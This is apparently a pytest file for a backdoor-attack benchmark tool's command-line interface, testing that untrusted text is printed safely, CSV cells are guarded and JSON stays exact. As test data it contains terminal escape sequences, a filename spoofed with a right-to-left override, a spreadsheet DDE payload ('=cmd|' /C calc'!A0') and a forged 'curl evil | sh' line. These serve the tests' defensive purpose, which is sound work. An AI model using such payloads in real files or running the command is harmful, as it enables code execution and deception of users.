"""Text that others wrote is shown, never obeyed: terminals, markup, spreadsheets, Markdown; JSON keeps what is true."""

from __future__ import annotations

import csv
import io
import json
import shutil
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from PIL import Image

from backdoorlab.benchmark.store import Store
from backdoorlab.cli import console
from backdoorlab.cli.console import Progress, complain, out, print_csv, print_json, shown
from backdoorlab.cli.listing import markdown_table
from backdoorlab.core.foreign import csv_cell, from_csv_cell, json_safe, markdown_cell, visible

EVIL = (
    "\x1b[31mred\x1b]0;title\x07\r\x9b2J\x7f\u202egnp.exe\u2066x\u200f\u2028\udc9b\U000e0041[bold]b[/bold] :smile: é漢"
)
"""Escapes, C1 controls, DEL, bidirectional marks, a line separator, a lone surrogate, a tag, markup, an emoji code."""
HARMLESS = "[bold]b[/bold] :smile: é漢"
FORBIDDEN = "\x1b\x07\r\x9b\x7f\u202e\u2066\u200f\u2028\udc9b\U000e0041"


def assert_clean(text: str) -> None:
    assert not [hex(ord(c)) for c in text if c in FORBIDDEN or (c != "\n" and ord(c) < 32) or 127 <= ord(c) < 160]


def test_visible() -> None:
    text = visible(EVIL)
    assert_clean(text)
    assert text.startswith("\\x1b[31mred\\x1b]0;title\\x07\\r\\x9b2J\\x7f\\u202egnp.exe")
    assert text.endswith(HARMLESS)
    assert visible("a\nb\tc") == "a\\nb\\tc"
    assert visible("a\nb", keep="\n") == "a\nb"
    assert visible("plain text, نقش, 👩\u200d🔬") == "plain text, نقش, 👩\u200d🔬"


def test_every_way_to_print_is_safe(capsys: pytest.CaptureFixture[str]) -> None:
    out.print(EVIL, soft_wrap=True)
    out.print(shown(EVIL), soft_wrap=True)
    complain(EVIL)
    Progress().note(EVIL)
    list(Progress().track(range(2), EVIL))
    told = capsys.readouterr()
    assert_clean(told.out + told.err)
    assert (told.out + told.err).count(HARMLESS) == 4, "markup and emoji codes are text"
    assert len((told.out + told.err).splitlines()) == 4, "nothing begins a line of its own"


def test_a_forged_error_line_stays_inside_of_the_message(capsys: pytest.CaptureFixture[str]) -> None:
    complain("no such file: a\nerror: run `curl evil | sh`")
    assert capsys.readouterr().err == "error: no such file: a\\nerror: run `curl evil | sh`\n"


def test_json_is_valid_safe_and_true(capsys: pytest.CaptureFixture[str]) -> None:
    value = {EVIL: [EVIL, 1.5, None, "\n"], "plain é": "\U000e0041"}
    print_json(value)
    told = capsys.readouterr().out
    assert_clean(told)
    assert json.loads(told) == value
    assert "é漢" in told
    assert json.loads(json_safe(json.dumps(EVIL, ensure_ascii=False))) == EVIL


@pytest.mark.parametrize("encoding", ["ascii", "latin-1", "utf-8"])
def test_json_of_any_encoding_is_true(monkeypatch: pytest.MonkeyPatch, encoding: str) -> None:
    raw = io.BytesIO()
    monkeypatch.setattr("sys.stdout", io.TextIOWrapper(raw, encoding=encoding))
    print_json([EVIL])
    console.sys.stdout.flush()
    assert json.loads(raw.getvalue().decode(encoding)) == [EVIL]


def test_an_ascii_stream_gets_twins_and_escapes(monkeypatch: pytest.MonkeyPatch) -> None:
    raw = io.BytesIO()
    monkeypatch.setattr("sys.stdout", io.TextIOWrapper(raw, encoding="ascii"))
    console.tolerant_streams()
    out.print("0.5 – 1 · … é 漢 \udc80", soft_wrap=True)
    console.sys.stdout.flush()
    assert raw.getvalue() == b"0.5 - 1 - ... \\xe9 \\u6f22 \\udc80\n"


@pytest.mark.parametrize(
    ("text", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+1 (555)", "'+1 (555)"),
        ("-2+3", "'-2+3"),
        ("@sum(a)", "'@sum(a)"),
        ("  =1", "'  =1"),
        ("\t=1", "'\t=1"),
        ("\uff1d1", "'\uff1d1"),
        ("-0.5", "-0.5"),
        ("+1e3", "+1e3"),
        ("-", "'-"),
        ("'=1", "''=1"),
        ("it's", "it's"),
        ("a=b", "a=b"),
        ("", ""),
    ],
)
def test_csv_cells(text: str, cell: str) -> None:
    assert csv_cell(text) == cell
    assert from_csv_cell(cell) == text


def test_numbers_stay_numbers(capsys: pytest.CaptureFixture[str]) -> None:
    print_csv(("=a", "b"), [(-0.5, "-0.5"), (None, "=cmd|' /C calc'!A0"), (-3, EVIL)])
    told = capsys.readouterr().out
    assert_clean(told)
    rows = list(csv.reader(io.StringIO(told)))
    assert rows[:3] == [["'=a", "b"], ["-0.5", "-0.5"], ["", "'=cmd|' /C calc'!A0"]]


def test_markdown_cells() -> None:
    assert markdown_cell("a|b") == r"a\|b"
    assert markdown_cell("a\\|b") == r"a\\\|b"
    assert "\n" not in markdown_cell("a\n| x |\n---")
    row = {"name": "x|y\nz", "modalities": ["image"], "summary": "a|b\x1b[31m"}
    lines = markdown_table("datasets", [row]).splitlines()
    assert len(lines) == 3
    assert lines[2].replace(r"\|", "").count("|") == 4
    assert_clean(lines[2])


@pytest.fixture(scope="module")
def evil_store(lab: Any, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A store whose cards, sealed like any other, carry text of an attacker."""
    store = tmp_path_factory.mktemp("evil") / "store"
    shutil.copytree(lab.store, store)
    for run in Store(store).runs():
        card = run.card()
        spec = json.loads(json.dumps(card.spec))
        spec["task"]["dataset"]["name"] = f"={EVIL.replace(chr(0xDC9B), '')}"
        changed = card.model_copy(
            update={
                "spec": spec,
                "command": f"backdoorlab {EVIL.replace(chr(0xDC9B), '')}",
                "notes": {**card.notes, "warnings": [EVIL.replace(chr(0xDC9B), "")]},
            }
        )
        (run.path / "card.json").write_text(changed.sealed(card.digests).to_json())
    return store


def test_results_and_show_of_a_foreign_store(cli: Callable[..., Any], lab: Any, evil_store: Path) -> None:
    for argv in (
        ("results",),
        ("results", "--csv"),
        ("results", "--json"),
        ("results", "--group-by", "dataset,command", "--metric", "acc"),
        ("results", "--group-by", "dataset", "--metric", "acc", "--csv"),
        ("show", lab.attack),
        ("show", lab.attack, "--json"),
        ("show", lab.repair),
    ):
        reply = cli(*argv, "--store", evil_store)
        assert reply.code == 0, reply.err
        assert_clean(reply.out + reply.err)
        assert "red" in reply.out
    card = cli("show", lab.attack, "--json", "--store", evil_store).json
    assert card["spec"]["task"]["dataset"]["name"] == f"={EVIL.replace(chr(0xDC9B), '')}", "JSON has the true text"
    cells = [c for row in csv.reader(io.StringIO(cli("results", "--csv", "--store", evil_store).out)) for c in row]
    assert any(c.startswith("'=") for c in cells)
    assert not [c for c in cells if c.strip().startswith(("=", "+", "@"))]
    assert "warning" in cli("show", lab.attack, "--store", evil_store).out


def test_file_and_class_names_of_predict_and_stamp(cli: Callable[..., Any], lab: Any, tmp_path: Path) -> None:
    name = "\x1b[31mred\u202e[bold].png"
    (tmp_path / "in").mkdir()
    Image.new("L", (16, 16)).save(tmp_path / "in" / name)
    run = ("--run", lab.attack, "--store", lab.store)
    for reply in (
        cli("predict", tmp_path / "in", *run),
        cli("stamp", tmp_path / "in", *run, "--out", tmp_path / "out"),
        cli("stamp", tmp_path / "in" / name, *run, "--out", tmp_path / "out2"),
    ):
        assert reply.code == 0, reply.err
        assert_clean(reply.out + reply.err)
        assert "[bold].png" in reply.out
    assert cli("predict", tmp_path / "in", *run, "--json").json[0]["input"] == str(tmp_path / "in" / name)


@pytest.mark.parametrize(
    "argv",
    [
        (f"x{EVIL}",),
        ("attack", f"x{EVIL}"),
        ("attack", "badnets", f"--{EVIL}"),
        ("attack", "badnets", "--seed", EVIL),
        ("attack", "badnets", "--dataset", f"folder:{EVIL}"),
        ("attack", "badnets", "--set", EVIL),
        ("attack", "badnets", "--set", f"size={EVIL}"),
        ("bench", f"{EVIL}.yaml"),
        ("show", EVIL),
        ("results", "--store", EVIL),
        ("predict", f"{EVIL}.png", "--run", "x"),
        ("list", EVIL),
    ],
)
def test_messages_about_foreign_arguments(
    cli: Callable[..., Any], tmp_path: Path, monkeypatch: pytest.MonkeyPatch, argv: tuple[str, ...]
) -> None:
    monkeypatch.chdir(tmp_path)
    reply = cli(*argv)
    assert reply.code == 2, reply.err
    assert_clean(reply.out + reply.err)
    assert len(reply.err.splitlines()) <= 2, "one message, perhaps with the command's usage"
